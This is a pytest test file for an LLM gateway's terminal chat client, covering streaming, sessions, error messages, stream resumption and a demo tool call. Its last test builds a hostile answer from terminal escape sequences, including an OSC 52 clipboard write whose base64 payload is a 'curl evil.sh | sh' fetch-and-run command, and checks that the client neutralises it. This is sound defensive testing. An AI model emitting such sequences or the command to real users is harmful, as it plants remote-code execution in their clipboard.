"""`llm-gateway chat`: the terminal client, run as a real subprocess against the
whole gateway on ephemeral ports (SQLite + in-memory store, as `make run`)."""

from __future__ import annotations

import io
import json
import os
import re
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from llm_gateway.chat import chat, run_demo_tool
from tests.stack import ROOT, Client, InProcessStack, base_env

SUMMARY = re.compile(
    r"^— (?P<tokens>\d+) tokens · cost (?P<cost>\d+\.\d{6}) credits · "
    r"first token (?P<ttft>\d+) ms · \d+\.\d s · (?P<model>[\w.-]+) · session (?P<session>\S+)$"
)


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InProcessStack]:
    database = tmp_path_factory.mktemp("chat-cli") / "gateway.db"
    with InProcessStack(base_env(f"sqlite:///{database}")) as running:
        yield running


def api_key(client: Client, credits: str = "5") -> str:
    """A member of a fresh company with `credits`, and an API key for them."""
    company_id = client.new_company(credits)
    user = client.admin(
        "POST",
        "/v1/admin/users",
        json={"company_id": company_id, "email": f"c-{uuid.uuid4().hex[:10]}@example.com"},
    )
    assert user.status_code == 201, user.text
    key = client.admin("POST", "/v1/admin/api-keys", json={"user_id": user.json()["data"]["id"]})
    assert key.status_code == 201, key.text
    secret: str = key.json()["data"]["key"]
    return secret


def run_chat(
    stack: InProcessStack, key: str | None, *args: str
) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("LLMGW_")}
    env["LLMGW_CONTROL_PLANE_URL"] = stack.client.cp_url
    if key is not None:
        env["LLMGW_API_KEY"] = key
    return subprocess.run(
        [sys.executable, "-m", "llm_gateway.cli", "chat", *args],
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=30,
    )


def mock_answer(client: Client, query: str, model: str = "mock-fast") -> str:
    response = client.http.post(
        f"{client.mock_url}/v1/chat/completions",
        json={"model": model, "messages": [{"role": "user", "content": query}]},
    )
    assert response.status_code == 200, response.text
    text: str = response.json()["choices"][0]["message"]["content"]
    return text


def usage_of(client: Client, key: str) -> list[dict[str, Any]]:
    response = client.as_user(key, "GET", "/v1/usage")
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["data"]["items"]
    return items


def test_chat_streams_the_answer_and_ends_with_a_summary(stack: InProcessStack) -> None:
    client = stack.client
    key = api_key(client)
    query = "What is a stream token? [[mock tokens=12]]"
    done = run_chat(stack, key, query)
    assert done.returncode == 0, done.stderr
    # stdout is exactly the answer; the summary goes to stderr, on one line.
    assert done.stdout == mock_answer(client, query) + "\n"
    summary = SUMMARY.match(done.stderr.strip())
    assert summary, done.stderr
    [record] = usage_of(client, key)
    assert summary["tokens"] == "12" == str(record["output_tokens"])
    assert summary["cost"] == record["cost"]
    assert summary["model"] == "mock-fast"
    assert summary["session"] == record["session_id"]

    # --session continues that chat; --model picks another model.
    follow_up = "And in one line? [[mock tokens=4 first_ms=0 delay_ms=0]]"
    again = run_chat(stack, key, follow_up, "--session", summary["session"], "--model", "mock-chat")
    assert again.returncode == 0, again.stderr
    assert again.stdout == mock_answer(client, follow_up, "mock-chat") + "\n"
    second = SUMMARY.match(again.stderr.strip())
    assert second and second["model"] == "mock-chat" and second["session"] == summary["session"]
    history = client.as_user(key, "GET", f"/v1/sessions/{summary['session']}").json()["data"]
    assert [m["role"] for m in history["messages"]] == ["user", "assistant"] * 2


def test_out_of_credits_is_a_clear_error(stack: InProcessStack) -> None:
    done = run_chat(stack, api_key(stack.client, credits="0.001"), "Hello?")
    assert done.returncode == 1
    assert done.stdout == ""
    assert done.stderr.startswith("llm-gateway chat: out of credits"), done.stderr
    assert "ask an admin to add credits" in done.stderr


def test_a_rejected_or_missing_key_is_a_clear_error(stack: InProcessStack) -> None:
    bad = run_chat(stack, "sk_not_a_real_key_0123456789", "Hello?")
    assert bad.returncode == 1
    assert "the API key was not accepted" in bad.stderr and "LLMGW_API_KEY" in bad.stderr
    missing = run_chat(stack, None, "Hello?")
    assert missing.returncode == 2
    assert "set LLMGW_API_KEY" in missing.stderr


def test_an_upstream_failure_mid_answer_is_reported(stack: InProcessStack) -> None:
    done = run_chat(stack, api_key(stack.client), "Fail [[mock tokens=20 error_after=3]]")
    assert done.returncode == 1
    assert len(done.stdout.strip()) > 0  # what arrived before the failure was printed
    assert "the answer stopped: the model's backend failed" in done.stderr, done.stderr


def test_an_unreachable_gateway_is_a_clear_error(stack: InProcessStack) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]  # nothing listens here once closed
    env = {k: v for k, v in os.environ.items() if not k.startswith("LLMGW_")}
    env.update(LLMGW_API_KEY="sk_whatever", LLMGW_CONTROL_PLANE_URL=f"http://127.0.0.1:{port}")
    done = subprocess.run(
        [sys.executable, "-m", "llm_gateway.cli", "chat", "Hello?"],
        env=env, cwd=ROOT, capture_output=True, text=True, timeout=30,
    )  # fmt: skip
    assert done.returncode == 1
    assert "cannot reach the gateway" in done.stderr


class DropOnce(httpx.BaseTransport):
    """Lets the first stream response deliver `keep` bytes, then fails it like a cut
    connection; later requests pass untouched."""

    def __init__(self, keep: int) -> None:
        self.inner = httpx.HTTPTransport()
        self.keep = keep
        self.requests: list[httpx.Request] = []

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        response = self.inner.handle_request(request)
        if len(self.requests) > 1:
            return response
        stream = response.stream
        keep = self.keep

        class Cut(httpx.SyncByteStream):
            def __iter__(self) -> Iterator[bytes]:
                sent = 0
                assert isinstance(stream, httpx.SyncByteStream)
                for chunk in stream:
                    if sent + len(chunk) >= keep:
                        yield chunk[: keep - sent]
                        raise httpx.ReadError("connection cut by the test")
                    sent += len(chunk)
                    yield chunk

            def close(self) -> None:
                assert isinstance(stream, httpx.SyncByteStream)
                stream.close()

        return httpx.Response(
            response.status_code, headers=response.headers, stream=Cut(), request=request
        )

    def close(self) -> None:
        self.inner.close()


def test_a_dropped_stream_resumes_without_losing_or_repeating_tokens(
    stack: InProcessStack,
) -> None:
    key = api_key(stack.client)
    query = "Resume me [[mock tokens=30 delay_ms=10]]"
    cut = DropOnce(keep=700)  # a few whole events and part of the next one
    out = io.StringIO()
    with (
        httpx.Client(
            base_url=stack.client.cp_url, headers={"Authorization": f"Bearer {key}"}
        ) as http,
        httpx.Client(transport=cut) as edge,
    ):
        summary = chat(http, query, None, None, out, edge=edge)
    assert out.getvalue() == mock_answer(stack.client, query) + "\n"
    assert len(cut.requests) == 2
    assert "last-event-id" not in cut.requests[0].headers
    assert int(cut.requests[1].headers["last-event-id"]) >= 1
    assert summary.startswith("— 30 tokens · cost ")


def test_demo_tool_loop(stack: InProcessStack) -> None:
    """`--demo-tool`: the model's `add` call runs here, its result goes back with
    `tool_results` on the same session, and the model's text answer is printed."""
    key = api_key(stack.client)
    out, notes = io.StringIO(), io.StringIO()
    with httpx.Client(
        base_url=stack.client.cp_url, headers={"Authorization": f"Bearer {key}"}
    ) as http:
        summary = chat(
            http, "Add two numbers [[mock tool_calls=1]]", None, None, out, tools=True, notes=notes
        )
    call = re.fullmatch(r"→ add\((?P<args>\{.*\})\) = (?P<result>\{.*\})\n", notes.getvalue())
    assert call is not None, notes.getvalue()
    args = json.loads(call["args"])
    assert json.loads(call["result"]) == {"sum": args["a"] + args["b"]}
    assert out.getvalue().strip()  # the final answer, in text
    found = SUMMARY.match(summary)
    assert found is not None, summary
    session = stack.client.as_user(key, "GET", f"/v1/sessions/{found['session']}")
    roles = [m["role"] for m in session.json()["data"]["messages"]]
    assert roles == ["user", "assistant", "tool", "assistant"]


@pytest.mark.parametrize(
    ("call", "result"),
    [
        ({"name": "add", "arguments": '{"a": 2, "b": 3.5}'}, {"sum": 5.5}),
        (
            {"name": "add", "arguments": '{"a": "2", "b": 3}'},
            {"error": "add takes two numbers, a and b"},
        ),
        ({"name": "add", "arguments": "{not json"}, {"error": "add takes two numbers, a and b"}),
        (
            {"name": "add", "arguments": '{"a": true, "b": 1}'},
            {"error": "add takes two numbers, a and b"},
        ),
        (
            {"name": "rm", "arguments": '{"a": 1, "b": 1}'},
            {"error": "add takes two numbers, a and b"},
        ),
    ],
)
def test_demo_tool_answers_bad_calls_with_an_error(call: dict[str, Any], result: Any) -> None:
    assert json.loads(run_demo_tool(call)) == result


# What a hostile backend (or a prompt-injected model) may put in an answer: OSC 52
# sets the user's clipboard, CSI 2J clears the screen, 0x9B is an 8-bit CSI, and a
# carriage return overwrites the line already shown.
HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x9b31m fine\rreal\r\nnext\tline"


def _hostile_gateway() -> tuple[httpx.Client, httpx.Client]:
    """A control plane and an edge (in-memory transports) whose stream carries
    `HOSTILE` in its text, its tool call's name and arguments and its error."""
    turns = iter(["tool", "error"])

    def control_plane(request: httpx.Request) -> httpx.Response:
        if request.url.path == "/v1/usage":
            return httpx.Response(200, json={"success": True, "data": {"items": []}})
        grant = {
            "stream_url": "http://edge.test/v1/stream?token=t",
            "session_id": "s",
            "reservation_id": "r",
            "reserved_credits": "0.1",
            "model": "m",
        }
        return httpx.Response(201, json={"success": True, "data": grant})

    def edge(request: httpx.Request) -> httpx.Response:
        chunk = json.dumps({"content": HOSTILE, "index": 0})
        if next(turns) == "tool":
            call = json.dumps(
                {"index": 0, "id": "c1", "name": "add" + HOSTILE, "arguments": HOSTILE}
            )
            done = json.dumps({"done": True, "usage": {"output_tokens": 1}})
            body = (
                f"id: 1\nevent: chunk\ndata: {chunk}\n\n"
                f"id: 2\nevent: tool_call\ndata: {call}\n\n"
                f"id: 3\nevent: complete\ndata: {done}\n\n"
            )
        else:
            error = json.dumps({"code": "x", "message": HOSTILE})
            body = f"id: 1\nevent: error\ndata: {error}\n\n"
        return httpx.Response(200, text=body, headers={"content-type": "text/event-stream"})

    return (
        httpx.Client(base_url="http://cp.test", transport=httpx.MockTransport(control_plane)),
        httpx.Client(transport=httpx.MockTransport(edge)),
    )


def _controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]


def test_a_hostile_answer_never_reaches_the_terminal_as_control_sequences(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The answer, the tool call line and the error were written as they came: an
    answer could set the user's clipboard to a command (OSC 52), clear or rewrite
    the screen. Now every control character but newline and tab is shown as U+FFFD
    (a carriage return dropped), and the answer's text is still all there."""
    from llm_gateway import chat as chat_cli

    http, edge = _hostile_gateway()
    out, notes = io.StringIO(), io.StringIO()
    with pytest.raises(chat_cli.ChatError) as stopped:
        chat(http, "hi", None, None, out, edge, tools=True, notes=notes)
    assert _controls(out.getvalue()) == [] and _controls(notes.getvalue()) == []
    assert "ok\ufffd]52;c;Y3VybCBldmlsLnNoIHwgc2g=\ufffd\ufffd[2J\ufffd31m fine" in out.getvalue()
    assert "finereal\nnext\tline" in out.getvalue() and notes.getvalue().startswith(
        "→ addok\ufffd]52"
    )
    # The command's own error line, as `run_chat` prints it.
    monkeypatch.setattr(chat_cli, "chat", lambda *a, **k: (_ for _ in ()).throw(stopped.value))
    args = chat_cli.argparse.Namespace(question="hi", model=None, session=None, demo_tool=False)
    assert chat_cli.run_chat(args, {"LLMGW_API_KEY": "sk_x"}) == 1
    assert _controls(capsys.readouterr().err) == []
